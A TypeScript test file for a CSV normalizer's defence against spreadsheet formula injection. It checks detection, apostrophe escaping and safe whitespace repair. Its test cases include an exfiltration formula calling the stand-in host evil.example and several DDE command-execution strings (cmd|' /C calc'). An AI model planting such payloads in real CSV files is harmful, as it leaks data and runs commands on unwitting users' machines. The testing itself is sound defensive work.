import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { createsFormula, escapeFormula, looksLikeFormula } from '../../src/text/formula.js';
import { formatRow } from '../../src/normalize/csv-writer.js';
import { normalizeFile } from '../../src/run/normalize-file.js';
import { validateFile } from '../../src/run/validate-file.js';

// Issue 12, row 11: formulas in cells (CSV injection, OWASP).

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'odf-formula-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('what reads as a formula', () => {
  it.each([
    ['=1+1', true],
    ['\t=1+1', true],
    ['\r=1+1', true],
    [' =SUM(A1:A3)', true],
    ['=HYPERLINK("http://evil.example/?"&A1;"clic")', true],
    ["=cmd|' /C calc'!A0", true],
    ["-2+3+cmd|' /C calc'!A0", true],
    ["@SUM(1+1)*cmd|' /C calc'!A0", true],
    ["+cmd|' /C calc'!A0", true],
    ['-5', false],
    ['+3.5', false],
    ['+33 1 23 45 67 89', false],
    ['+33 (0)1 23 45 67 89', false],
    ['@mairie_de_lyon', false],
    ['- voir plus bas (page 2)', false],
    ['Montant = 3 €', false],
    ['', false],
  ])('%j → %s', (text, expected) => {
    expect(looksLikeFormula(text)).toBe(expected);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['\t=1+1', "'\t=1+1"],
    ['+33 1 23 45 67 89', "'+33 1 23 45 67 89"],
    ['@mairie', "'@mairie"],
    ['-5', '-5'],
    ['+3.5', '+3.5'],
    ['-1,5', '-1,5'],
    ['Paris', 'Paris'],
    ['', ''],
  ])('OWASP escape of %j is %j (numbers stay numbers)', (text, escaped) => {
    expect(escapeFormula(text)).toBe(escaped);
  });

  it('a repair that would make a formula is one odf refuses', () => {
    expect(createsFormula('\t=1+1', '=1+1')).toBe(true);
    expect(createsFormula(' =SUM(A1)', '=SUM(A1)')).toBe(true);
    expect(createsFormula('=1+1', '=1+1')).toBe(false);
    expect(createsFormula(' -5', '-5')).toBe(false);
    expect(createsFormula(' +33 1 23 45 67 89', '+33 1 23 45 67 89')).toBe(false);
  });

  it('the writer escapes only when asked, and keeps quoting right', () => {
    expect(formatRow(['=1+1', 'a,b'])).toBe('=1+1,"a,b"\r\n');
    expect(formatRow(['=1+1', '=A1,B1', '-5'], { escapeFormulas: true })).toBe('\'=1+1,"\'=A1,B1",-5\r\n');
  });
});

describe('normalize and validate on a file with formulas', () => {
  const schema = {
    fields: [
      { name: 'nom', type: 'string' },
      { name: 'montant', type: 'number' },
      { name: 'code', type: 'string', constraints: { pattern: '^[A-Z=+1 ]+$' } },
    ],
  };
  const file = (): string => {
    const f = path.join(dir, 'formulas.csv');
    writeFileSync(
      f,
      [
        'nom,montant,code',
        '"=HYPERLINK(""http://x"")",-5,A',
        '"\t=1+1",3,B',
        '@mairie,+4,"\t=1+1"',
        'Paris,1," =1"',
      ].join('\n') + '\n',
    );
    return f;
  };

  it('writes cells unchanged, never trims a tab into a live formula, and reports the columns', async () => {
    const output = path.join(dir, 'plain.csv');
    const r = await normalizeFile(file(), { output, schema });
    const lines = readFileSync(output, 'utf8').split('\r\n');
    expect(lines[1]).toBe('"=HYPERLINK(""http://x"")",-5,A');
    expect(lines[2]).toBe('\t=1+1,3,B');
    // The pattern refuses the tab, but the whitespace repair would make `=1+1`: the cell stays as it was.
    expect(lines[3]).toBe('@mairie,+4,\t=1+1');
    expect(lines[4]).toBe('Paris,1, =1');
    const found = r.file.run.findings.filter((f) => f.code === 'formula-like-text');
    expect(found.map((f) => [f.loc.fieldNumber, f.params.count, f.params.rows])).toEqual([
      [1, 2, [2, 3]],
      [3, 2, [4, 5]],
    ]);
  });

  it('--escape-formulas prefixes them with an apostrophe, numbers untouched', async () => {
    const output = path.join(dir, 'escaped.csv');
    await normalizeFile(file(), { output, schema, escapeFormulas: true });
    const lines = readFileSync(output, 'utf8').split('\r\n');
    expect(lines[1]).toBe('"\'=HYPERLINK(""http://x"")",-5,A');
    expect(lines[2]).toBe("'\t=1+1,3,B");
    expect(lines[3]).toBe("'@mairie,+4,'\t=1+1");
  });

  it('validate reports a header that is a formula', async () => {
    const f = path.join(dir, 'header.csv');
    writeFileSync(f, 'nom,=1+1\na,b\n');
    const r = await validateFile(f);
    expect(
      r.run.findings
        .filter((x) => x.code === 'formula-like-text')
        .map((x) => [x.loc.rowNumber, x.loc.fieldNumber]),
    ).toEqual([[1, 2]]);
  });
});
